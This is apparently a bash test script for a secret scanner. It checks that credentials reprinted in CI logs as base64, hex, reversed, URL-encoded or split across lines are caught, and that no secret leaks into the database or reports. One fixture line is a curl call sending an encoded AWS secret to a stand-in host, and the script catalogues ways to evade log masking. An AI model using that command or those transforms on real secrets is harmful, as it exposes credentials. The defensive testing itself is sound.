#!/usr/bin/env bash
# Masking bypass (issue 17 item 2): secrets found by an earlier scan, printed
# again in CI logs transformed — base64 at the three byte alignments, hex in
# both cases, reversed, percent-encoded, one character per line behind GitHub
# Actions and GitLab decoration — are recorded as new occurrences of the
# existing findings, each with its transform and its log provenance; a near
# miss is not. Then the bad order in one sweep: the log is read before the
# file with the plaintext (one thread, logs first), and the end-of-sweep pass
# finds it. No plaintext, transformed form or bare hash in a print reaches the
# DB (file and WAL) or the reports.
set -e
. "$(dirname "$0")/lib.sh"
cd "$T"

g=$($FAKE github 601)
read -r akid a <<< "$($FAKE aws 602)"
case "$a" in */*+* | *+*/*) ok ;; *) fail "the AWS secret should hold '/' and '+': $a" ;; esac
mkdir -p repo gha/build logs
printf 'token = "%s"\n' "$g" > repo/settings.py
printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' "$akid" "$a" > repo/credentials
run_ferret scan --db s.db repo
assert_eq "$RC" 1 "first scan: findings"
assert_eq "$(sqlite3 s.db "select count(*) from findings")" 3 "first scan: 3 findings"
assert_eq "$(sqlite3 s.db "select count(*) from mask_prints")" 3 "a print per finding"

b64() { printf '%s' "$1" | base64 -w0; }
hexl() { printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'; }
rev1() { printf '%s' "$1" | rev; }
urlq() { python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$1"; }
near=${g:0:39}$([ "${g:39:1}" = A ] && echo B || echo A)

ts="2026-03-04T05:06:07.1234567Z"
{
  printf '%s ##[group]Run ./deploy.sh\r\n' "$ts"                                    # 1
  printf '%s echo %s\r\n' "$ts" "$(b64 "$g")"                                       # 2 alignment 0
  printf '%s AUTH=%s\r\n' "$ts" "$(b64 "T$g")"                                      # 3 alignment 1
  printf '%s %s\r\n' "$ts" "$(b64 "$(printf 'token: %s\n' "$g")")"                  # 4 alignment 1 (7 bytes)
  printf '%s %s\r\n' "$ts" "$(b64 "TO$g")"                                          # 5 alignment 2
  printf '%s dump %s\r\n' "$ts" "$(hexl "$g")"                                      # 6
  printf '%s DUMP %s\r\n' "$ts" "$(hexl "$g" | tr a-f A-F)"                         # 7
  printf '%s %s\r\n' "$ts" "$(rev1 "$g")"                                           # 8
  printf '%s curl "https://x.example/cb?k=%s&v=1"\r\n' "$ts" "$(urlq "$a")"         # 9
  printf '%s near miss %s\r\n' "$ts" "$(b64 "$near")"                               # 10
  printf '%s ::group::split\r\n' "$ts"                                              # 11
  for ((i = 0; i < ${#g}; i++)); do printf '%s %s\r\n' "$ts" "${g:i:1}"; done     # 12..51
  printf '%s ::endgroup::\r\n' "$ts"
} > "gha/build/2_Deploy.txt"
printf '%s ##[group]Set up job\r\n' "$ts" > "gha/build/1_Set up job.txt"
(cd gha && zip -q -r ../logs/logs_4242.zip build)
{
  printf '\033[0KRunning with gitlab-runner 16.0\n'                                  # 1
  printf 'section_start:1700000000:script\r\033[0K\033[32;1m$ ./upload.sh\033[0;m\n' # 2
  for ((i = 0; i < ${#a}; i++)); do printf '\033[0;m%s\033[0K\n' "${a:i:1}"; done  # 3..42
  printf 'echo %s | base64 -d\n' "$(b64 "$a")"                                      # 43
} > logs/job-77.log
gzip logs/job-77.log

run_ferret scan --db s.db logs
assert_eq "$RC" 1 "log sweep: the findings are in the logs too"
assert_eq "$(sqlite3 s.db "select count(*) from findings")" 3 "log sweep: no new finding"
assert_eq "$(count_of "$ERR" "new findings")" 0 "log sweep: 0 new findings"
gid=$(sqlite3 s.db "select id from findings where rule_id = 'github.pat'")
aid=$(sqlite3 s.db "select id from findings where rule_id = 'aws.secret-access-key'")
q() { sqlite3 s.db "select group_concat(x, ' ') from (select m.line || ':' || m.transform x from matches m where m.finding_id = $1 and m.transform is not null order by m.line)"; }
assert_eq "$(q "$gid")" "2:base64 3:base64 4:base64 5:base64 6:hex 7:hex 8:reversed 12:split-lines" \
  "the token's transformed occurrences, line by line"
assert_eq "$(q "$aid")" "3:split-lines 9:url 43:base64" "the AWS secret's: URL-encoded '/' and '+', split, base64"
assert_eq "$(sqlite3 s.db "select count(*) from matches where transform is not null")" 11 "11 transformed occurrences"
assert_eq "$(sqlite3 s.db "select count(*) from matches m join findings f on f.id = m.finding_id where f.rule_id = 'aws.access-key-id'")" 1 "the key id: only its plaintext"

run_ferret report --db s.db --format jsonl
printf '%s\n' "$OUT" > r.jsonl
occ() { pyjsonl r.jsonl "'; '.join('%s %s %s %s' % (o['path'], o['line'], o.get('transform', '-'), '/'.join((o.get('ci') or {}).get(k, '') for k in ('run', 'job', 'step'))) for r in rows if r['rule'] == '$1' for o in sorted(r['occurrences'], key=lambda o: (o['path'], o['line'])))"; }
assert_eq "$(occ github.pat)" "logs/logs_4242.zip!build/2_Deploy.txt 2 base64 4242/build/Deploy; logs/logs_4242.zip!build/2_Deploy.txt 3 base64 4242/build/Deploy; logs/logs_4242.zip!build/2_Deploy.txt 4 base64 4242/build/Deploy; logs/logs_4242.zip!build/2_Deploy.txt 5 base64 4242/build/Deploy; logs/logs_4242.zip!build/2_Deploy.txt 6 hex 4242/build/Deploy; logs/logs_4242.zip!build/2_Deploy.txt 7 hex 4242/build/Deploy; logs/logs_4242.zip!build/2_Deploy.txt 8 reversed 4242/build/Deploy; logs/logs_4242.zip!build/2_Deploy.txt 12 split-lines 4242/build/Deploy; repo/settings.py 1 - //" \
  "JSONL: the token's places with transform and CI run/job/step"
assert_eq "$(occ aws.secret-access-key)" "logs/job-77.log.gz!job-77.log 3 split-lines //; logs/job-77.log.gz!job-77.log 43 base64 //; logs/logs_4242.zip!build/2_Deploy.txt 9 url 4242/build/Deploy; repo/credentials 3 - //" \
  "JSONL: the AWS secret's places"
assert_eq "$(pyjsonl r.jsonl "[o['column'] for r in rows if r['rule'] == 'github.pat' for o in r['occurrences'] if o.get('transform') == 'hex']")" "[6, 6]" "columns: where the encoded text starts"

# every format names the transform
run_ferret report --db s.db --format sarif
printf '%s\n' "$OUT" > r.sarif
assert_eq "$(python3 -c "import json; d=json.load(open('r.sarif')); print(sorted(r['properties'].get('transform', '-') for run in d['runs'] for r in run['results']))")" \
  "['-', '-', '-', 'base64', 'base64', 'base64', 'base64', 'base64', 'hex', 'hex', 'reversed', 'split-lines', 'split-lines', 'url']" "SARIF: a result per place, transform property"
run_ferret report --db s.db --all-locations
assert_eq "$(printf '%s\n' "$OUT" | grep -c 'printed base64 (masking bypass)')" 5 "text: 5 base64 places"
assert_eq "$(printf '%s\n' "$OUT" | grep -c 'printed split-lines (masking bypass)')" 2 "text: 2 split places"
run_ferret report --db s.db --format json
printf '%s\n' "$OUT" > r.json
python3 - "$FERRET_SRC/schemas" <<'PY' && ok || fail "JSON/JSONL with transforms hold to the schema"
import json, sys, jsonschema
v = jsonschema.Draft202012Validator(json.load(open(sys.argv[1] + "/report.schema.json")))
for f in json.load(open("r.json")):
    v.validate(f)
for l in open("r.jsonl"):
    v.validate(json.loads(l))
PY
run_ferret report --db s.db --format html
printf '%s\n' "$OUT" > r.html
# (the page lists a finding's first few places: these three transforms among them)
assert_eq "$(grep -o 'file, printed [a-z0-9-]*' r.html | sort -u | tr '\n' ' ')" "file, printed base64 file, printed split-lines file, printed url " "HTML: the kind column names the transform"

# secrets stay secret: no plaintext, no transformed form, no print equal to a bare hash
leaks=0
for f in s.db s.db-wal r.jsonl r.json r.sarif r.html; do
  [ -f "$f" ] || continue
  for v in "$g" "$a" "$(b64 "$g")" "$(hexl "$g")" "$(rev1 "$g")" "$(urlq "$a")" "$(b64 "$a")"; do
    grep -qaF -- "$v" "$f" && { leaks=$((leaks + 1)); echo "leak of a form in $f" >&2; }
  done
done
assert_eq "$leaks" 0 "no plaintext or transformed secret in the DB, its WAL or a report"
for v in "$g" "$a"; do
  assert_eq "$(sqlite3 s.db "select count(*) from mask_prints where tag = '$(sha256 "$v")' or tag like '%$(sha256 "$v" | cut -c1-16)%'")" 0 "a print is no bare hash"
done
# the bare SHA-256 is where it was before this feature only: the findings row
assert_eq "$(sqlite3 s.db .dump | grep -c "$(sha256 "$g")")" 1 "the token's SHA-256: only in its findings row"

# a merge carries the prints: an organisation store with the same key finds
# the secret of a merged store printed transformed in a later sweep
cp s.db.key org.db.key
run_ferret merge --db org.db s.db
assert_eq "$RC" 0 "merge"
assert_eq "$(sqlite3 org.db "select count(*) from mask_prints")" 3 "merge: the prints"
assert_eq "$(sqlite3 org.db "select count(*) from matches where transform is not null")" 11 "merge: the transformed occurrences"
mkdir -p later
printf '%s echo %s\n' "$ts" "$(b64 "$a")" > later/deploy.log
run_ferret scan --db org.db later
assert_eq "$(sqlite3 org.db "select m.line || ':' || m.transform from matches m join locations l on l.content_id = m.content_id where l.path = 'later/deploy.log'")" \
  "1:base64" "merged prints find a later log's base64"

# ---- the bad order, one sweep: the log is read before the plaintext ----
h=$($FAKE github 603)
mkdir -p bad/gha/build bad/logs bad/repo
{
  printf '%s echo %s\r\n' "$ts" "$(b64 "x=$h")"
  printf '%s %s\r\n' "$ts" "$(rev1 "$h")"
} > "bad/gha/build/3_Leak.txt"
(cd bad/gha && zip -q -r ../logs/logs_77.zip build)
printf 'GH_TOKEN=%s\n' "$h" > bad/repo/.env
run_ferret scan --threads 1 --db s2.db bad/logs bad/repo
assert_eq "$RC" 1 "bad order: a finding"
assert_eq "$(sqlite3 s2.db "select count(*) from findings")" 1 "bad order: one finding"
assert_eq "$(sqlite3 s2.db "select group_concat(x, ' ') from (select l.path || ':' || m.line || ':' || coalesce(m.transform, '-') || ':' || coalesce(l.ci_run, '') || '/' || coalesce(l.ci_job, '') || '/' || coalesce(l.ci_step, '') x from matches m join locations l on l.content_id = m.content_id order by l.path, m.line)")" \
  "bad/logs/logs_77.zip!build/3_Leak.txt:1:base64:77/build/Leak bad/logs/logs_77.zip!build/3_Leak.txt:2:reversed:77/build/Leak bad/repo/.env:1:-://" \
  "bad order: the end-of-sweep pass records both transformed places with their provenance"
run_ferret report --db s2.db --format jsonl
assert_eq "$(pyjsonl <(printf '%s\n' "$OUT") "sum(len(r['occurrences']) for r in rows)")" 3 "bad order: 3 occurrences reported"
# the same sweep in the good order gives the same rows
run_ferret scan --threads 1 --db s3.db bad/repo bad/logs
assert_eq "$(sqlite3 s3.db "select group_concat(x, ' ') from (select m.line || ':' || coalesce(m.transform, '-') x from matches m order by m.transform, m.line)")" \
  "1:- 1:base64 2:reversed" "good order: the same occurrences"

# the switch for benchmarks: no search, no transformed occurrence
FERRET_NO_MASK_BYPASS=1 run_ferret scan --threads 1 --db s4.db bad/repo bad/logs
assert_eq "$(sqlite3 s4.db "select count(*) from matches where transform is not null")" 0 "FERRET_NO_MASK_BYPASS=1: off"
finish
